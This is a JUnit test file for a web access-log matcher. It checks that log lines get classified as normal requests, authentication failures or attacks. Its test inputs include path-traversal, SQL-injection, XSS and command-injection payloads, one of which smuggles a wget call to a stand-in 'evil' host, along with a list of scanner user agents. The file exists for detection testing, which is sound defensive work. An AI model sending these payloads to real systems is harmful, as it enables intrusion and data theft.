package io.sluice.analyzers.security.recognize;

import static io.sluice.analyzers.security.AttackKind.COMMAND_INJECTION;
import static io.sluice.analyzers.security.AttackKind.NONE;
import static io.sluice.analyzers.security.AttackKind.PATH_TRAVERSAL;
import static io.sluice.analyzers.security.AttackKind.SCANNER_USER_AGENT;
import static io.sluice.analyzers.security.AttackKind.SQL_INJECTION;
import static io.sluice.analyzers.security.AttackKind.XSS;
import static io.sluice.analyzers.security.SecurityAction.AUTH_FAILURE;
import static io.sluice.analyzers.security.SecurityAction.WEB_ATTACK;
import static io.sluice.analyzers.security.SecurityAction.WEB_REQUEST;
import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertNull;

import io.sluice.analyzers.security.AttackKind;
import io.sluice.analyzers.security.SecurityAction;
import org.junit.jupiter.api.Test;

class WebAccessMatcherTest {
    private static final String BROWSER = "Mozilla/5.0 (X11; Linux x86_64; rv:120.0) Gecko/20100101 Firefox/120.0";

    @Test
    void shouldReadStatusAndClientOfEveryAccessLine() {
        expect(line("/index.html", 200, BROWSER), WEB_REQUEST, 200, NONE);
        expect(line("/admin/", 403, BROWSER), WEB_REQUEST, 403, NONE); // authorization refused: no credential guessed
        expect(line("/wp-login.php", 401, BROWSER), AUTH_FAILURE, 401, NONE);
    }

    @Test
    void shouldFlagTraversalInjectionAndXssInTheRequestTarget() {
        expect(line("/static/../../etc/passwd", 404, BROWSER), WEB_ATTACK, 404, PATH_TRAVERSAL);
        expect(line("/files/%2E%2E/%2e%2e/secret", 400, BROWSER), WEB_ATTACK, 400, PATH_TRAVERSAL);
        expect(line("/item?id=1%20UNION%20SELECT%20password%20FROM%20users", 500, BROWSER), WEB_ATTACK, 500,
            SQL_INJECTION);
        expect(line("/login?u=admin'%20or%20'1'='1", 200, BROWSER), WEB_ATTACK, 200, SQL_INJECTION);
        expect(line("/search?q=1'+or+'1'='1", 200, BROWSER), WEB_ATTACK, 200, SQL_INJECTION);
        expect(line("/item?id=1;SELECT%20SLEEP(5)", 200, BROWSER), WEB_ATTACK, 200, SQL_INJECTION);
        expect(line("/search?q=<script>alert(1)</script>", 200, BROWSER), WEB_ATTACK, 200, XSS);
        expect(line("/search?q=%3Cscript%3Ealert(1)", 200, BROWSER), WEB_ATTACK, 200, XSS);
        expect(line("/img?src=x%20onerror=alert(1)", 200, BROWSER), WEB_ATTACK, 200, XSS);
        expect(line("/cgi-bin/ping?host=1.1.1.1;wget%20http://evil/x", 200, BROWSER), WEB_ATTACK, 200,
            COMMAND_INJECTION);
        expect(line("/cgi-bin/ping?host=$(id)", 200, BROWSER), WEB_ATTACK, 200, COMMAND_INJECTION);
    }

    @Test
    void shouldFlagScannersByUserAgentCaseInsensitively() {
        for (String agent : new String[] {"sqlmap/1.7.2#stable (https://sqlmap.org)", "Mozilla/5.00 (Nikto/2.1.6)",
            "Mozilla/5.0 (compatible; Nmap Scripting Engine; https://nmap.org/book/nse.html)", "masscan/1.3",
            "Mozilla/5.0 zgrab/0.x", "Nuclei - Open-source project (github.com/projectdiscovery/nuclei)",
            "WPScan v3.8.22 (https://wpscan.com/wordpress-security-scanner)", "DirBuster-1.0-RC1", "gobuster/3.6"}) {
            expect(line("/", 404, agent), WEB_ATTACK, 404, SCANNER_USER_AGENT);
        }
    }

    @Test
    void shouldNotFlagBenignUrlsThatMerelyContainAKeyword() {
        expect(line("/products/select-a-plan?sort=price", 200, BROWSER), WEB_REQUEST, 200, NONE);
        expect(line("/docs/sql/select.html#union", 200, BROWSER), WEB_REQUEST, 200, NONE);
        expect(line("/blog/scripting-tips", 200, BROWSER), WEB_REQUEST, 200, NONE);
        expect(line("/a.b/c..d", 200, BROWSER), WEB_REQUEST, 200, NONE);
    }

    @Test
    void shouldReadAccessLinesOverSyslogAndHaproxy() {
        Recognized viaSyslog = Recognized.line("Nov 23 10:00:00 web1 nginx: 198.51.100.23 - bob [23/Nov/2026:10:00:00 "
            + "+0000] \"GET /private HTTP/1.1\" 401 179 \"-\" \"curl/8.4.0\"");
        assertEquals(new Recognized(AUTH_FAILURE, "198.51.100.23", "bob", -1, 401, NONE), viaSyslog);
        Recognized haproxy = Recognized.line("Nov 14 22:45:11 test haproxy[760]: ::ffff:192.168.33.1:58430 "
            + "[14/Nov/2015:22:45:11.608] main main/<NOSRV> -1/-1/-1/-1/0 401 248 - - PR-- 0/0/0/0/0 0/0 \"GET / HTTP/1.1\"");
        assertEquals(new Recognized(AUTH_FAILURE, "192.168.33.1", null, -1, 401, NONE), haproxy);
    }

    @Test
    void shouldIgnoreLinesWithoutARequestAndStatus() {
        assertNull(Recognized.line("198.51.100.23 - - [23/Nov/2026:10:00:00 +0000] \"GET / HTTP/1.1\""));
        assertNull(Recognized.line("2026-11-23 10:00:00 INFO fetched https://example.com/select?x=1 in 20 ms"));
        assertNull(Recognized.line("Nov 23 10:00:00 app1 api[9]: upstream answered \"GET /x HTTP/1.1\" 200 in 3 ms"));
    }

    private static String line(String target, int status, String agent) {
        return "203.0.113.50 - - [23/Nov/2026:10:00:00 +0000] \"GET " + target + " HTTP/1.1\" " + status
            + " 512 \"-\" \"" + agent + "\"";
    }

    private static void expect(String line, SecurityAction action, int status, AttackKind attack) {
        assertEquals(new Recognized(action, "203.0.113.50", null, -1, status, attack), Recognized.line(line), line);
    }
}
